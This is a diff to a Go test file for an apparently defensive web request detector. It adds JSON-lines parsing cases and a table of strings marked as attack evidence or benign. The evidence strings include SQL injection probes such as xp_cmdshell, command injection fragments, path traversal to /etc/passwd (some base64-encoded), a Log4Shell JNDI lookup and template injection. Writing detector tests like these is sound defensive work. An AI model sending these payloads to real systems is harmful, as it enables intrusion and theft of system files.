@@ -46,6 +46,17 @@ func TestFields(t *testing.T) {
 			want: []pf{{"body", "", `{"a":"x",}`}},
 		},
 		{
+			name: "json lines are walked line by line",
+			req: Request{Method: "POST", URI: "/api/v2/logs", Headers: [][2]string{{"content-type", "text/plain;charset=UTF-8"}},
+				Body: []byte("{\"message\":\"console error\",\"n\":1}\n\n{\"message\":\"x\"}\n")},
+			want: []pf{{"path", "", "/api/v2/logs"}, {"body", "message", "console error"}, {"body", "n", "1"}, {"body", "message", "x"}},
+		},
+		{
+			name: "json lines with one bad line are one field",
+			req:  Request{Method: "POST", URI: "/", Body: []byte("{\"a\":1}\n{\"b\":}")},
+			want: []pf{{"body", "", "{\"a\":1}\n{\"b\":}"}},
+		},
+		{
 			name: "form body",
 			req:  Request{Method: "POST", URI: "/login", Headers: [][2]string{{"content-type", "application/x-www-form-urlencoded"}}, Body: []byte("u=a&p=b%27")},
 			want: []pf{{"path", "", "/login"}, {"body", "u", "a"}, {"body", "p", "b%27"}},
@@ -274,6 +285,47 @@ func TestEvidenceShapes(t *testing.T) {
 		{"a;type=sync", false},
 		{"/lib/jquery.min.js", false},
 		{"0x2f3a4b", false},
+		// Written-out SQL without a quote in front.
+		{"select * from pg_shadow;", true},
+		{"select name from sysibm.systables;", true},
+		{"select @@version", true},
+		{"create table myfile (input TEXT);", true},
+		{"1 ORDER BY 3#", true},
+		{"%0AORDER%0ABY%0A30%0A", true},
+		{"exec master..xp_cmdshell 'dir'", true},
+		{"1or1=1", true},
+		{"Select from the menu", false},
+		{"order by price", false},
+		{"delete from the list please", false},
+		// Glued shell words and command lines.
+		{"a)|i''d;", true},
+		{"& i$@d", true},
+		{"&&{,}sleep{,}5", true},
+		{"cat /etc/hosts", true},
+		{"ls%0C-L%0C%2FETc%2F", true},
+		{"cat toys for sale", false},
+		{"echo chamber", false},
+		// Traversal with its escapes' "%" lost, by file name, by base64.
+		{"..2f..2f..2fetc2fpasswd", true},
+		{"\\logs\\access.log", true},
+		{"/web/conf/php.ini", true},
+		{"//etc/mailman/mm_cfg.py", true},
+		{"Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==", true},
+		{"Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA", true},
+		{"convert.iconv.IBM037.IBM256", true},
+		{"${jndi:ldap://x/a}", true},
+		{"copy myfile from '/etc/passwd';", true},
+		{"copy this from page 3", false},
+		{"%5Els%20-la", true},
+		{"%7C%0Bid", true},
+		{"1 or 2=3", true},
+		{"x' and 1=2-- ", true},
+		{"0=9058,1=7897,2=1956", false},
+		{"${7*7}", true},
+		{"/ddm/trackimp/N3282.B2;ord=[timestamp];gdpr=$%7BGDPR%7D;gdpr_consent=$%7BGDPR_CONSENT_755%7D", false},
+		{"aHR0cHM6Ly9zaG9wLmV4YW1wbGUvY2FydA==", false},
+		{"dGhlIHF1aWNrIGJyb3duIGZveA", false},
+		{"oJsCdwcVEWgFrZtAfFtwdeESBSMazO8XcTDglsHInGeXx3XSKGD_MANEMgL0egsi", false},
 	}
 	for _, tc := range tests {
 		f := Field{Part: PartQuery, Name: "q", Raw: tc.raw}
@@ -281,6 +333,22 @@ func TestEvidenceShapes(t *testing.T) {
 		FieldFeatures(&f, fv)
 		if got := fv[fEvidence] > 0; got != tc.evidence {
 			t.Errorf("%q: evidence %v, want %v", tc.raw, fv[fEvidence], tc.evidence)
+		}
+	}
+	for _, tc := range []struct {
+		path     string
+		evidence bool
+	}{
+		{"/Li4vLi4vZXRjL3Bhc3N3ZA==/bid_empty", true},
+		{"/track.gif/L3Vzci9sb2NhbC9hcGFjaGUvbG9ncy9hY2Nlc3NfbG9nDQo=", true},
+		{"/s/montserrat/v26/JTUHjIg1_i6t8kCHKm4532VJOt5-QNFgpCtr6Hw5aXp-obK4.woff2", false},
+		{"/dist/mobile/vendors~eventemitter.43b3187e86b5f9f87ea6.js", false},
+	} {
+		f := Field{Part: PartPath, Raw: tc.path}
+		fv := make([]float64, NumFeatures)
+		FieldFeatures(&f, fv)
+		if got := fv[fEvidence] > 0; got != tc.evidence {
+			t.Errorf("path %q: evidence %v, want %v", tc.path, fv[fEvidence], tc.evidence)
 		}
 	}
 }
